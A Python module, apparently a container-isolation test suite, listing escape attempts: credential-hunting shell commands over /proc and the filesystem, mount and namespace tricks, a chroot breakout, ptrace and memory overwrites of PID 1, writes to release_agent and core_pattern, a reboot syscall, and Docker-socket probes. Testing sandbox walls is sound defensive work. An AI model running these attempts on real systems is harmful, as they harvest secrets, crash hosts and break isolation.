"""Attacks on the walls of the container: mounts, namespaces, other processes, devices, networks."""

from .attack import Attack

KERNEL = (
    Attack(
        "search-for-secrets",
        """
        env; for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; tr '\\0' ' ' < $p/cmdline
        ls -l $p/fd $p/cwd $p/root; cat $p/status | head -3; done 2>/dev/null
        cat /proc/mounts /etc/hosts /etc/resolv.conf /proc/net/unix /proc/keys /proc/self/cgroup
        find / -xdev -name '*prefect*' -o -xdev -name '*secret*' -o -xdev -name '.netrc' 2>/dev/null
        find $C $S $P $HF $CACHE -type f -size -100k -exec cat {} + 2>/dev/null | head -c 100000; true
        """,
    ),
    Attack(
        "mounts",
        python="""
        for place in ("/.prefect-bt", "/b10/workspace", "/mnt/ckpts", "/proc/sys", "/sys", "/"):
            attempt(f"umount {place}", libc.umount2, place.encode(), 2)
            attempt(f"remount {place}", libc.mount, None, place.encode(), None, 0x20 | 0x1000, None)
        for kind in (b"proc", b"sysfs", b"tmpfs", b"cgroup", b"cgroup2", b"debugfs", b"devtmpfs", b"overlay", b"ext4"):
            attempt(f"mount {kind}", libc.mount, b"/dev/vda", b"/tmp", kind, 0, None)
        attempt("bind", libc.mount, b"/", b"/tmp", None, 4096, None)
        attempt("pivot_root", libc.syscall, 155, b"/tmp", b"/tmp")
        attempt("open_tree", libc.syscall, 428, -100, b"/", 1)
        attempt("fsopen", libc.syscall, 430, b"ext4", 0)
        attempt("mount_setattr", libc.syscall, 442, -100, b"/", 0, struct.pack("QQQQ", 0, 1, 0, 0), 32)
        """,
        impossible=True,
    ),
    Attack(
        "namespaces",
        python="""
        for name, flag in {"user": 1 << 28, "mount": 1 << 17, "pid": 1 << 29, "net": 1 << 30, "cgroup": 1 << 25}.items():
            attempt(f"unshare {name}", libc.unshare, flag)
        for name in ("mnt", "pid", "net"):
            attempt(f"setns {name}", lambda: libc.setns(os.open(f"/proc/1/ns/{name}", os.O_RDONLY), 0))
        attempt("clone3", libc.syscall, 435, struct.pack("Q" * 11, 1 << 28, *[0] * 10), 88)
        attempt("uid_map", Path("/proc/self/uid_map").write_text, "0 0 1000")
        """,
        impossible=True,
    ),
    Attack(
        "leave-the-root",
        python="""
        def out():
            os.makedirs("/tmp/jail", exist_ok=True)
            above = os.open("/", os.O_RDONLY)
            os.chroot("/tmp/jail")
            os.fchdir(above)
            for _ in range(100):
                os.chdir("..")
            os.chroot(".")
            os.stat(f"{HOST}/secret")
        attempt("chroot", out)
        handle = struct.pack("<IiQ", 8, 1, 2)
        for place in (b"/b10/workspace", b"/etc/hostname", b"/mnt/ckpts"):
            mount = os.open(place, os.O_RDONLY)
            attempt("by handle", libc.open_by_handle_at, mount, handle, 0)
        for n in range(64):
            with suppress(OSError):
                attempt(f"descriptor {n}", os.stat, f"/proc/self/fd/{n}/../../../../..{HOST}/secret")
                attempt(f"magic {n}", os.stat, f"/proc/1/fd/{n}/../../..{HOST}/secret")
        attempt("1", os.stat, f"/proc/1/root{HOST}/secret")
        attempt("1", os.stat, f"/proc/1/cwd/../../../..{HOST}/secret")
        attempt("host", os.stat, f"{HOST}/secret")
        """,
        impossible=True,
    ),
    Attack(
        "first-process",
        python="""
        up()
        libc.ptrace(16, 1, 0, 0)
        for pid in range(2, 200):
            if pid != os.getpid():
                libc.ptrace(16, pid, 0, 0)
        with suppress(OSError):
            Path("/proc/1/environ").read_bytes()
        with suppress(OSError), open("/proc/1/mem", "r+b") as memory:
            for line in Path("/proc/1/maps").read_text().splitlines():
                start, _, end = line.split()[0].partition("-")
                with suppress(OSError, OverflowError, ValueError):
                    memory.seek(int(start, 16))
                    memory.write(b"\\0" * 4096)
        time.sleep(10**6)
        """,
        endless=True,
        alone=True,
    ),
    Attack(
        "proc-and-sys",
        python="""
        places = ["/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe",
            "/proc/sys/vm/panic_on_oom", "/proc/sys/fs/file-max", "/proc/sys/kernel/hostname",
            "/sys/kernel/uevent_helper", "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/memory/release_agent",
            "/sys/fs/cgroup/rdma/release_agent", "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/memory.limit_in_bytes",
            "/sys/fs/cgroup/pids/pids.max", "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/power/state",
            "/proc/irq/default_smp_affinity", "/proc/bus/pci/00/00.0", "/proc/acpi/x", "/sys/firmware/x",
            "/sys/class/net/eth0/mtu", "/proc/sys/net/ipv4/conf/all/route_localnet", "/sys/kernel/debug/x",
            "/sys/devices/system/cpu/cpu1/online", "/sys/module/kernel/parameters/panic"]
        for place in places:
            attempt(place, lambda place=place: os.close(os.open(place, os.O_WRONLY)))
        for place in ("/proc/kcore", "/dev/mem", "/dev/kmem", "/dev/kmsg", "/dev/port", "/dev/vda", "/dev/sda", "/dev/fuse", "/dev/kvm", "/proc/kmsg"):
            attempt(f"read {place}", lambda place=place: os.read(os.open(place, os.O_RDONLY | os.O_NONBLOCK), 1)[0])
        """,
        impossible=True,
    ),
    Attack(
        "system-calls",
        python="""
        calls = {"init_module": 175, "finit_module": 313, "delete_module": 176, "kexec_load": 246, "bpf": 321,
            "perf_event_open": 298, "userfaultfd": 323, "iopl": 172, "ioperm": 173, "settimeofday": 164,
            "clock_settime": 227, "adjtimex": 159, "sethostname": 170, "swapon": 167, "quotactl": 179, "acct": 163,
            "syslog": 103, "lookup_dcookie": 212, "vhangup": 153, "keyctl": 250, "add_key": 248, "request_key": 249,
            "fanotify_init": 300, "process_vm_writev": 311, "kcmp": 312, "io_uring_setup": 425, "mbind": 237}
        buffers = ctypes.create_string_buffer(256)
        for name, number in calls.items():
            given = (3, buffers, 100) if name == "syslog" else (1, buffers, 1, 1, 1, 1)
            print(name, libc.syscall(number, *given), errno.errorcode.get(ctypes.get_errno()))
        attempt("sethostname", libc.sethostname, b"mine", 4)
        attempt("reboot", libc.syscall, 169, 0xFEE1DEAD, 672274793, 0, 0)
        attempt("settime", libc.clock_settime, 0, struct.pack("qq", 0, 0))
        attempt("module", libc.syscall, 175, buffers, 10, b"")
        """,
        impossible=True,
    ),
    Attack(
        "engine-and-network",
        python="""
        for place in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/systemd/private", "/run/dbus/system_bus_socket"):
            attempt(place, socket.socket(socket.AF_UNIX).connect, place)
            attempt(f"abstract {place}", socket.socket(socket.AF_UNIX).connect, "\\0" + place)
        attempt("shim", socket.socket(socket.AF_UNIX).connect, "\\0/containerd-shim/moby/x/shim.sock")
        def connect(host, port):
            with socket.create_connection((host, port), timeout=2):
                pass
        for port in (int(E["API_PORT"]), 2375, 2376, 22, 4200, 6379):
            attempt(f"127.0.0.1:{port}", connect, "127.0.0.1", port)
        routes = [line.split() for line in Path("/proc/net/route").read_text().splitlines()[1:]]
        gateways = [socket.inet_ntoa(struct.pack("<L", int(r[2], 16))) for r in routes if r[2] != "00000000"]
        for gateway in gateways:
            for port in (int(E["API_PORT"]), 2375):
                attempt(f"{gateway}:{port}", connect, gateway, port)
        attempt("raw", socket.socket, socket.AF_INET, socket.SOCK_RAW, 1)
        attempt("packet", socket.socket, socket.AF_PACKET, socket.SOCK_RAW, 3)
        attempt("address", lambda: fcntl.ioctl(socket.socket(), 0x8916, struct.pack("16sH2s4s8s", b"eth0", 2, b"", bytes([10, 0, 0, 1]), b"")))
        """,
        impossible=True,
    ),
)
